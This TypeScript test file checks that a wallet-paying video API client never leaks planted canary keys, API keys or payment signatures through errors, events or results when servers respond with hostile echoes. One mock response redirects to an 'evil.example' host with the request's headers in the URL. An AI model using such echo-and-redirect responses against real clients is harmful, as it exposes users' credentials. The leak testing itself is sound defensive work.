import { inspect } from 'node:util'

import { beforeAll, describe, expect, test } from 'vitest'

import { completeVideo } from '../../src/actions/completeVideo.js'
import { discoverTopUp } from '../../src/actions/discoverTopUp.js'
import { getBalance } from '../../src/actions/getBalance.js'
import { listModels } from '../../src/actions/listModels.js'
import { listTransactions } from '../../src/actions/listTransactions.js'
import { openDownload } from '../../src/actions/openDownload.js'
import { queueVideo } from '../../src/actions/queueVideo.js'
import { quoteVideo } from '../../src/actions/quoteVideo.js'
import { readAuthorization } from '../../src/actions/readAuthorization.js'
import { retrieveVideo } from '../../src/actions/retrieveVideo.js'
import { sendTopUp } from '../../src/actions/sendTopUp.js'
import { createRpc } from '../../src/client/createRpc.js'
import { createWalletFetch } from '../../src/client/createWalletFetch.js'
import * as Errors from '../../src/Errors.js'
import { privateKeyWallet } from '../../src/wallets/privateKeyWallet.js'
import * as X402 from '../../src/X402.js'
import { clientOf, network } from '../support/client.js'
import { type Seen, serve } from '../support/serve.js'
import { payTo } from '../support/x402.js'

/** A key that is nowhere else, so that finding it anywhere means a leak. */
const canary = 'ca7a9bee'.repeat(8)
const apiKey = 'sk-canary-4f1d'
const wallet = privateKeyWallet(canary)
const link = '/files/1?signature=canary-link-77'
const authorization = {
  from: wallet.address,
  nonce: `0x${'07'.repeat(32)}`,
  to: payTo,
  validAfter: 0n,
  validBefore: 1_790_000_060n,
  value: 5_000_000n,
} as const
const signature = await wallet.authorizeTransfer({ authorization, network })
const wire = { ...authorization, validAfter: '0', validBefore: '1790000060', value: '5000000' }
const payment = X402.encode({ payload: { authorization: wire, signature }, x402Version: 2 })

const keys = [
  canary,
  canary.toUpperCase(),
  Buffer.from(canary, 'hex').toString('base64'),
  Buffer.from(canary).toString('base64').slice(0, 40),
  BigInt(`0x${canary}`).toString(),
]
const fixed = [
  ...keys,
  apiKey,
  Buffer.from(apiKey).toString('base64'),
  payment,
  signature,
  signature.slice(2, 60),
  'canary-link-77',
]

type Target = ReturnType<typeof clientOf>
const actions: Record<string, (client: Target, origin: string) => Promise<unknown>> = {
  completeVideo: (client) => completeVideo(client, { model: 'x', queueId: 'q' }),
  discoverTopUp: (client) => discoverTopUp(client),
  getBalance: (client) => getBalance(client),
  listModels: (client) => listModels(client),
  listTransactions: (client) => listTransactions(client),
  openDownload: (client, origin) => openDownload(client, { url: origin + link }),
  queueVideo: (client) => queueVideo(client, { body: '{}' }),
  quoteVideo: (client) => quoteVideo(client, { model: 'x' }),
  readAuthorization: (_, origin) =>
    readAuthorization(createRpc({ url: `${origin}/v2/canary-link-77` }), {
      from: wallet.address,
      network,
      nonce: authorization.nonce,
    }),
  retrieveVideo: (client) => retrieveVideo(client, { model: 'x', queueId: 'q' }),
  sendTopUp: (client) => sendTopUp(client, { header: payment }),
  walletFetch: (_, origin) =>
    createWalletFetch({ baseUrl: origin, network, wallet })(origin, {
      headers: { authorization: `Bearer ${apiKey}` },
    }),
}

/** The API key without the word before it, if one came. */
const bareKeyOf = ({ authorization = '' }: Seen['headers']) => authorization.replace('Bearer ', '')

/** All that arrived, as a server would repeat it to whoever reads its error. */
const echo = ({ headers, path, text }: Seen) =>
  `Invalid header ${Object.values(headers).join(' or ')} at http://api.example${path}: ${text}`

const hostile: Record<string, (seen: Seen) => Response> = {
  '400 that repeats the request': (seen) => Response.json({ error: echo(seen) }, { status: 400 }),
  '400 whose code is the request': (seen) =>
    Response.json(
      { code: echo(seen), error: { code: echo(seen), message: echo(seen) } },
      { status: 400 },
    ),
  '401 that repeats a header': ({ headers }) =>
    Response.json(
      { code: headers['sign-in-with-x'] ?? 'X', error: String(headers['sign-in-with-x']) },
      { status: 401 },
    ),
  '401 that names the key alone': ({ headers }) =>
    Response.json(
      {
        code: bareKeyOf(headers),
        error: `Incorrect API key provided: ${bareKeyOf(headers)}`,
        issues: [{ code: 'x', message: bareKeyOf(headers), path: [bareKeyOf(headers)] }],
        suggested_prompt: bareKeyOf(headers),
      },
      { status: 401 },
    ),
  '400 that names the key in other letters': ({ headers }) =>
    Response.json(
      { error: `${Buffer.from(bareKeyOf(headers)).toString('base64')} is no key` },
      { status: 400 },
    ),
  '402 that repeats the request': (seen) => Response.json({ error: echo(seen) }, { status: 402 }),
  '402 that offers the request': (seen) =>
    Response.json(
      { accepts: [{ network: echo(seen), scheme: echo(seen) }], error: echo(seen), x402Version: 2 },
      { status: 402 },
    ),
  '404 of plain text': (seen) => new Response(echo(seen), { status: 404 }),
  '409 that repeats the request': (seen) =>
    Response.json({ error: { code: echo(seen), message: echo(seen) } }, { status: 409 }),
  '422 that suggests the request': (seen) =>
    Response.json({ error: { message: echo(seen) }, suggested_prompt: 'y' }, { status: 422 }),
  '500 that repeats the request': (seen) => Response.json({ message: echo(seen) }, { status: 500 }),
  '429 that repeats the request': (seen) => Response.json({ error: echo(seen) }, { status: 429 }),
  'a redirect with the request in it': (seen) =>
    new Response(null, {
      headers: { location: `http://evil.example/?${encodeURIComponent(echo(seen))}` },
      status: 307,
    }),
  'a good status with the request in it': (seen) =>
    Response.json({
      data: { balanceUsd: echo(seen) },
      model: 5,
      quote: echo(seen),
      result: echo(seen),
      status: echo(seen),
      success: echo(seen),
    }),
  'no JSON': (seen) => new Response(echo(seen)),
  'an encoding that is none': (seen) =>
    new Response(echo(seen), { headers: { 'content-encoding': 'gzip' } }),
  'a dropped connection': () => {
    throw new Error('dropped')
  },
}

/** Everything that can be read of a value: what it prints, its JSON, its stack, and its causes. */
function textOf(value: unknown): string {
  const parts: string[] = []
  for (
    let link = value;
    link !== undefined && link !== null;
    link = (link as { cause?: unknown }).cause
  ) {
    const { message, stack } = Object(link) as Error
    parts.push(
      String(message),
      String(stack),
      inspect(link, { breakLength: Infinity, depth: 20, showHidden: true }),
    )
    parts.push(
      JSON.stringify(link, (_, part: unknown) =>
        typeof part === 'bigint' ? String(part) : part,
      ) ?? '',
    )
  }
  return parts.join('\n')
}

/** What an action tells: an error, or its value without what is the server's own word for word. */
async function toldBy(run: Promise<unknown>): Promise<unknown> {
  const value = await run.catch((error: unknown) => error)
  if (value instanceof Errors.BaseError) return value
  const { demand: _, response: __, ...rest } = Object(value) as Record<string, unknown>
  if (value !== null && typeof value === 'object' && 'kind' in value) return rest
  return undefined
}

describe.each(Object.keys(hostile))('%s', (kind) => {
  test.each(Object.keys(actions))('behavior: %s tells no secret', async (name) => {
    const handler = hostile[kind]!
    const signIns: string[] = []
    await using server = await serve((seen) => {
      const header = String(seen.headers['sign-in-with-x'] ?? '')
      if (header)
        signIns.push(header, JSON.parse(Buffer.from(header, 'base64').toString()).signature)
      return handler(seen)
    })
    await using client = clientOf(server.origin, { apiKey, wallet })
    await using keyed = clientOf(server.origin, { apiKey, wallet: undefined })
    const told = [await toldBy(actions[name]!(client, server.origin)), client.events]
    if (name !== 'walletFetch')
      told.push(await toldBy(actions[name]!(keyed, server.origin)), keyed.events)

    const text = told.map(textOf).join('\n')
    const secrets = [...fixed, ...signIns, ...signIns.map((part) => part.slice(2, 70))]
    expect(secrets.filter((secret) => text.includes(secret))).toEqual([])
  })
})

test('behavior: this would be found', () => {
  const deep = new Errors.UnexpectedError({
    cause: new Error('x', { cause: { headers: [payment] } }),
  })
  expect(textOf(deep)).toContain(payment)
  expect(textOf({ kind: 'x', says: canary })).toContain(canary)
})

describe('sources of keys', () => {
  let told = ''
  beforeAll(() => {
    for (const wrong of [`${canary}0`, `0x0x${canary}`, `"${canary}"`, `${canary} ${canary}`])
      try {
        privateKeyWallet(wrong)
      } catch (error) {
        told += textOf(error)
      }
  })

  test('error: a key that is nearly one is not repeated', () => {
    expect(told).toContain('INVALID_KEY')
    expect(keys.filter((key) => told.includes(key))).toEqual([])
  })
})
